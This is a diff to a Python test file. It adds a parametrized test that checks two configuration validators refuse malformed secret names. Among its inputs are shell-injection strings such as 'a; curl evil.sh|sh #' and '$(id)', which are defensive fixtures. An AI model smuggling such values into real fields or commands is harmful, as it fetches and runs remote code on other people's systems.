@@ -24,3 +24,18 @@ def test_secrets_that_nobody_could_use_are_warned_of() -> None:
     assert [(one.path, one.code) for one in theirs.warnings if one.code in SECRET_WARNINGS] == [
         ("op_auth", "secrets_not_asked")
     ]
+
+
+@pytest.mark.req("S-29")
+@pytest.mark.parametrize(
+    "name", ["a; curl evil.sh|sh #", "$(id)", "--tenant=acme", "two words", "", "x" * 129, "plugin/weather/API_KEY"]
+)
+def test_a_name_that_no_secret_has_and_one_of_a_plugins_configuration_are_refused_wherever_they_stand(
+    name: str,
+) -> None:
+    ours = native(secrets=["key", name], operation_auth={"send": {"secrets": {name: "user"}}})
+    theirs = shu(secrets=["key", name], op_auth={"send": {"secrets": {name: {}}}})
+
+    for operations, said in (("operation_auth", ours), ("op_auth", theirs)):
+        paths = [one.path for one in said.errors if one.code == "secret_name"]
+        assert len(paths) == 2 and paths[0] == "secrets[1]" and paths[1].startswith(f"{operations}.send.secrets")
